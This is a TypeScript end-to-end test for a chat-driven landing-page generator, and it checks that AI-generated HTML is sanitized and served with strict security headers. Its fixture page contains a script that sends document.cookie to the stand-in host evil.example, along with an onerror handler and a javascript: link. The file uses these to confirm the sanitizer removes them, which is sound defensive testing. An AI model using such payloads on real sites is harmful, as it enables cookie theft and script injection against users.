import { parse } from 'parse5';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chatCompletion, startFakeOpenAi, type FakeOpenAi } from '../support/fake-openai.ts';
import { startSystem, type TestSystem } from '../support/system.ts';
import { textUpdate } from '../support/updates.ts';

const CSP =
  "default-src 'none'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self' data:; form-action 'none'; base-uri 'none'; frame-ancestors 'none'; sandbox";

/** What a careless (or manipulated) model might send back: a decent page with active content in it. */
const HOSTILE_PAGE = `<!DOCTYPE html>
<html lang="en"><head><title>Bean There Coffee</title>
<style>body { background: #2b1d14; color: #f5e6d3; } h1 { font-size: 3rem; }</style>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
<body>
  <header><h1>Bean There Coffee</h1><p>Roasted in Lisbon since 1998.</p></header>
  <img src="x" onerror="alert('pwned')" alt="cup">
  <a href="javascript:alert(1)">Menu</a>
  <section id="visit"><h2>Visit us</h2><p>Rua Augusta 12</p></section>
</body></html>`;

let system: TestSystem;
let ai: FakeOpenAi;

beforeAll(async () => {
  ai = await startFakeOpenAi();
  system = await startSystem({ AI_PROVIDER: 'openai', AI_API_KEY: 'sk-test-e2e', AI_BASE_URL: ai.baseUrl });
});
afterAll(async () => {
  await system?.close();
  await ai?.close();
});

describe('update → job → RabbitMQ → worker → sanitized bundle → preview → link in chat', () => {
  it('delivers a link to a sanitized page served with every required header', async () => {
    ai.enqueue({ body: chatCompletion('```html\n' + HOSTILE_PAGE + '\n```') });
    const update = textUpdate('a landing page for a coffee shop in Lisbon');
    const chatId = update.message.chat.id;

    const response = await system.postUpdate(update);
    expect(response.status).toBe(200);

    // The chat sees "working", then the link — and nothing else.
    const link = await system.telegram.waitFor(() => system.telegram.messagesTo(chatId).map(findLink).find(Boolean));
    const messages = system.telegram.messagesTo(chatId);
    expect(messages).toHaveLength(2);
    expect(messages[0]).toMatch(/^⏳ Got it!/);
    expect(messages[1]).toContain('Bean There Coffee');
    expect(link.startsWith(`${system.previewUrl}/p/`)).toBe(true);

    // The provider got the user's words through the real OpenAI SDK.
    expect(JSON.stringify(ai.requests[0]?.body)).toContain('a landing page for a coffee shop in Lisbon');
    expect(ai.requests[0]?.headers.authorization).toBe('Bearer sk-test-e2e');

    // The preview serves the sanitized page with the preview origin's security headers.
    const page = await fetch(link);
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(page.headers.get('content-security-policy')).toBe(CSP);
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');
    expect(page.headers.get('referrer-policy')).toBe('no-referrer');
    expect(page.headers.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(page.headers.get('cross-origin-resource-policy')).toBe('same-origin');
    expect(page.headers.get('x-robots-tag')).toBe('noindex, nofollow');
    expect(page.headers.get('set-cookie')).toBeNull();
    expect(page.headers.get('content-disposition') ?? '').not.toMatch(/attachment/);

    const html = await page.text();
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).toContain('<h1>Bean There Coffee</h1>');
    expect(html).toContain('background');
    expect(activeContentIn(html)).toEqual([]);

    // The database tells the same story.
    const job = await system.db
      .selectFrom('jobs')
      .selectAll()
      .where('update_id', '=', update.update_id)
      .executeTakeFirstOrThrow();
    expect(job).toMatchObject({ status: 'done', attempts: 1, error: null });
    expect(link).toContain(`/p/${job.preview_id}/`);
    const attempts = await system.db.selectFrom('job_attempts').selectAll().where('job_id', '=', job.id).execute();
    expect(attempts).toMatchObject([{ attempt: 1, outcome: 'succeeded', provider: 'openai' }]);
    const preview = await system.db
      .selectFrom('previews')
      .selectAll()
      .where('job_id', '=', job.id)
      .executeTakeFirstOrThrow();
    expect(preview.title).toBe('Bean There Coffee');
    expect(preview.expires_at.getTime()).toBeGreaterThan(Date.now() + 29 * 24 * 3600 * 1000);
  });
});

function findLink(text: string): string | undefined {
  return /(http:\/\/127\.0\.0\.1:\d+\/p\/[a-z2-7]+\/)/.exec(text)?.[1];
}

/** Scripts, event handlers and script URLs, as a browser's parser sees the document. */
function activeContentIn(html: string): string[] {
  const found: string[] = [];
  // eslint-disable-next-line @typescript-eslint/no-explicit-any -- any parse5 node: element, text, document or template
  const walk = (node: any) => {
    if (node.tagName === 'script') found.push('<script>');
    for (const attr of node.attrs ?? []) {
      if (attr.name.startsWith('on')) found.push(`${attr.name}=`);
      if (/^\s*javascript:/i.test(attr.value)) found.push(`${attr.name}=javascript:`);
    }
    for (const child of node.childNodes ?? []) walk(child);
    if (node.content) walk(node.content);
  };
  walk(parse(html));
  return found;
}
